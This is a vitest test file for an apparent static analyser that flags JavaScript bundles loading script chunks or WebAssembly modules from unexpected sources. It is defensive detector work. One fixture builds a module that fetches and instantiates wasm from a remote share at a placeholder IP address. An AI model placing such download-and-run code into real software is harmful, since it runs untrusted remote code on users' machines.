import { expect, test } from "vitest";
import { brief } from "../analyse-files.ts";

const chunk = (name: string): string =>
  `export function load(base) {\n  const script = document.createElement("script");\n  script.src = base + "${name}";\n  document.head.append(script);\n}\n`;
const wasm = (address: string): string =>
  `export const load = () => WebAssembly.instantiateStreaming(fetch(${address}), { env: { on_row() {} } });\n`;
const OTHER = { "parts/other.min.js": "export const a = 1;\n" };

test.each([
  ["a chunk of its own", chunk("other.min.js"), []],
  ["a chunk of somebody else", chunk("strange.min.js"), ["execution/remote-code"]],
  ["a module beside it", wasm("new URL('./pkg/rows.wasm', import.meta.url)"), []],
  ["a module that it is given", wasm("arguments[0]"), []],
  [
    "a share of somebody else",
    wasm("'file://203.0.113.7/pkg/rows.wasm'"),
    ["execution/download-and-run-from-stranger"],
  ],
])("%s", async (_name, text, expected) => {
  const found = await brief({ "index.mjs": text, ...OTHER }, "execution/");
  expect(found.map((line) => line.split(" ", 1)[0])).toEqual(expected);
});
